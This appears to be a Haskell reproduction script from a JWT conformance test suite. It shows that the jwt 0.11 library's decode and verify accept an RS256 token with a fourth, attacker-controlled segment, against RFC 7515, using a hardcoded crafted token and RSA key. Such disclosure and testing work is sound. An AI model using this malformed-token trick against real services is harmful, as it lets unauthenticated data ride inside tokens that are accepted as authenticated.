-- | jwt 0.11 (Web.JWT) accepts a token of four segments: Web.JWT.decode splits the token on
-- dots and takes the first three parts (extractElems (h:c:s:_)), ignoring the rest. RFC 7515
-- §3.1/§7.1 (RFC7515-3-compact): a JWS Compact Serialization is exactly three base64url parts
-- joined by two dots; the extra segment is attacker-controlled data carried by an
-- "authenticated" token. No setting changes the split.
--
-- Reproduces: across/rs256-segments-4 (forgery)
--
-- jwt is configured exactly as the jwt-conformance adapter does (adapters/haskell-jwt/adapter.hs):
-- the profile allows RS256 only, so the signer is VerifyRSAPublicKey with cryptonite's PublicKey
-- built from the key set's RSA JWK (kid "rsa-2048": n and e, size = bytes of n), then
-- Web.JWT.decode and Web.JWT.verify (decodeAndVerifySignature is exactly verify =<< decode).
--
-- Run (Debian libghc-jwt-dev installed): bash scripts/setup/haskell.sh && adapters/haskell-jwt/bin/repro-segments
-- or: runghc adapters/haskell-jwt/repro-segments.hs
{-# LANGUAGE OverloadedStrings #-}
module Main (main) where

import qualified Crypto.PubKey.RSA.Types as RSA
import qualified Data.ByteString as BS
import qualified Data.ByteString.Base64.URL as B64U
import qualified Data.ByteString.Char8 as BC
import qualified Data.Text as T
import qualified Data.Text.IO as TIO
import System.Exit (exitFailure)
import qualified Web.JWT as JWT

token :: T.Text
token =
  T.concat
    [ "eyJhbGciOiJSUzI1NiIsImtpZCI6InJzYS0yMDQ4IiwidHlwIjoiYXQrand0In0.eyJhdWQiOiJodHRwczovL2FwaS"
    , "5leGFtcGxlIiwiY2xpZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwi"
    , "aXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01Tj"
    , "ZQN1E4UjlTMFQxVjIifQ.nmMnDCEOMnK43424LWiTFExz-ydD20BPZckyH3sdO8Yz3bOo59HZjAKUZhvT4zbj69EHm"
    , "zpGszfausf8XPYna6BphhCVY7Ngx-bg1ejBnMPVuRFJjovOAVaz8kd1VaaK-y9G9mZCnx-BWKadTnyeUmplhvWPjj5"
    , "sjBUUHP7w5FzFB1frQcZ657BN7P0eLdQVB_Zwy7_krdelW3OpRLIWlgMmWOgbMOLhq-QZdwBmgm9aW0gg5-_UqWpuR"
    , "x-1ZnHJHB_XjLxWyCCsnGB7x2omsxak-3nc1AFqwswxUeYMGvzTbOFrtXUzQ15vTur4rGwbg4lFKPfIqHnmHr2g3J5"
    , "cMg.nmMnDCEOMnK43424LWiTFExz-ydD20BPZckyH3sdO8Yz3bOo59HZjAKUZhvT4zbj69EHmzpGszfausf8XPYna6"
    , "BphhCVY7Ngx-bg1ejBnMPVuRFJjovOAVaz8kd1VaaK-y9G9mZCnx-BWKadTnyeUmplhvWPjj5sjBUUHP7w5FzFB1fr"
    , "QcZ657BN7P0eLdQVB_Zwy7_krdelW3OpRLIWlgMmWOgbMOLhq-QZdwBmgm9aW0gg5-_UqWpuRx-1ZnHJHB_XjLxWyC"
    , "CsnGB7x2omsxak-3nc1AFqwswxUeYMGvzTbOFrtXUzQ15vTur4rGwbg4lFKPfIqHnmHr2g3J5cMg"
    ]

modulus :: T.Text
modulus =
  T.concat
    [ "2ZMM5FrzlwilE7MG6ER-aGOY0l6HYNpwU0GVK7isUvPG2MCK5rhVWolMqhXYzcKKX69grtDzz-TjLgBUKPDow2tIa9"
    , "plyLoOwNy1UoPkhjpeHV0sPhYpQR2LlMDVcTbYX8tTOKjjwh0R44NlZlxO70MzX4SIKrJYX8EBacimn8W0xUe3TPtI"
    , "CKUVb435Q4daE93psWzWmJPVwI2yY7mZUPmUvKQuFdtMFm2wutTb1_V7FefEZXyIReOYM9IPuUFv7qIF5k6OfGoIQI"
    , "6a3aQaOyic6Ep7tDi9einTeTNKFmmWhdnVn55EgP34cXQI56yUnlM8MB4VFERUGbZrSMaxyw"
    ]

integer :: BS.ByteString -> Integer
integer = BS.foldl' (\acc b -> acc * 256 + toInteger b) 0

main :: IO ()
main = do
  let Right n = B64U.decodeUnpadded (BC.pack (T.unpack modulus))
      Right e = B64U.decodeUnpadded "AQAB"
      key = RSA.PublicKey (BS.length (BS.dropWhile (== 0) n)) (integer n) (integer e)
  case JWT.decode token >>= JWT.verify (JWT.VerifyRSAPublicKey key) of
    Just verified ->
      TIO.putStrLn $ T.concat
        [ "REPRODUCED across/rs256-segments-4: Web.JWT.verify accepted a token with four segments (header "
        , T.pack (show (JWT.header verified)), ", sub "
        , maybe "none" JWT.stringOrURIToText (JWT.sub (JWT.claims verified)), ")" ]
    Nothing -> do
      TIO.putStrLn "NOT REPRODUCED across/rs256-segments-4: Web.JWT refused the token"
      exitFailure
